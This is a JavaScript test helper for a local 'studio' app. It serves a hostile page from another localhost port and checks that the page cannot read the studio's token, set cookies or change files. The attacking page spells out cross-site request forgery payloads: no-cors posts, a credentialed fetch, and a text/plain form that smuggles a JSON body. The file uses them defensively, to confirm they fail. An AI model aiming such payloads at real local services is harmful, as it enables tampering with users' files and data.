// A page served from another local port, opened in the same browser as the
// studio: everything such a page can try without the token. The studio must
// set no cookie, the page's own requests must carry nothing of the token,
// and no file in the folder may change.
"use strict";
const assert = require("node:assert/strict");
const fs = require("node:fs");
const http = require("node:http");
const path = require("node:path");

// The attacking page: no-cors posts of every body type a page may send
// without asking, a fetch with credentials, a form into a hidden frame and an
// image request. It even knows a real result id, as if it had guessed one.
function attackPage(studio, result) {
  const save = JSON.stringify({ result, file: "picture.bmp", replace: true });
  return `<!DOCTYPE html><html><body>
<iframe name="sink"></iframe>
<form id="form" method="POST" action="${studio}/api/save" enctype="text/plain" target="sink">
<input name='{"result":"${result}","file":"picture.bmp","replace":true,"x":"' value='"}'></form>
<img id="image" src="${studio}/api/session">
<script>
(async () => {
  const outcomes = { cookie: document.cookie, stored: JSON.stringify(sessionStorage) };
  const tries = [
    ["no-cors text", () => fetch("${studio}/api/save", { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: ${JSON.stringify(save)} })],
    ["no-cors form", () => fetch("${studio}/api/save", { method: "POST", mode: "no-cors", body: new URLSearchParams({ a: ${JSON.stringify(save)} }) })],
    ["no-cors picture", () => fetch("${studio}/api/picture?name=photo.bmp", { method: "POST", mode: "no-cors", body: new Blob(["BM"]) })],
    ["credentials", () => fetch("${studio}/api/session", { credentials: "include" }).then((r) => r.text())],
    ["cors json", () => fetch("${studio}/api/save", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body: ${JSON.stringify(save)} })],
  ];
  for (const [name, attempt] of tries) {
    try { const r = await attempt(); outcomes[name] = typeof r === "string" ? "read: " + r : "sent"; }
    catch (e) { outcomes[name] = "blocked"; }
  }
  document.getElementById("form").submit();
  await new Promise((done) => setTimeout(done, 300));
  await fetch("/report", { method: "POST", body: JSON.stringify(outcomes) });
})();
</script></body></html>`;
}

function snapshot(folder) {
  return fs.readdirSync(folder).sort().map((name) => [name, fs.readFileSync(path.join(folder, name)).toString("hex")]);
}

async function attackFromAnotherPort(context, studio, folder, result) {
  const before = snapshot(folder);
  const seen = [];  // every request the attacking server received, as text
  let report = null;
  const server = http.createServer((request, response) => {
    let body = "";
    request.on("data", (chunk) => { body += chunk; });
    request.on("end", () => {
      seen.push(request.method + " " + request.url + " " + JSON.stringify(request.headers) + " " + body);
      if (request.url === "/report") report = JSON.parse(body);
      response.writeHead(200, { "Content-Type": "text/html" });
      response.end(request.url === "/" ? attackPage(studio.origin, result) : "");
    });
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  try {
    const page = await context.newPage();
    await page.goto("http://127.0.0.1:" + server.address().port + "/");
    const deadline = Date.now() + 10000;
    while (report === null && Date.now() < deadline) await new Promise((done) => setTimeout(done, 50));
    await page.close();
  } finally {
    server.close();
  }
  assert.ok(report !== null, "the attacking page reported back");
  assert.deepEqual(await context.cookies(), [], "the studio sets no cookie");
  assert.equal(report.cookie, "");
  assert.equal(report.stored, "{}");
  assert.ok(!/^read:/.test(report.credentials), "a cross-origin read got nothing: " + report.credentials);
  for (const request of seen) assert.ok(!request.includes(studio.token), "the token reached another port: " + request);
  assert.deepEqual(snapshot(folder), before, "the folder is unchanged");
}

module.exports = { attackFromAnotherPort };
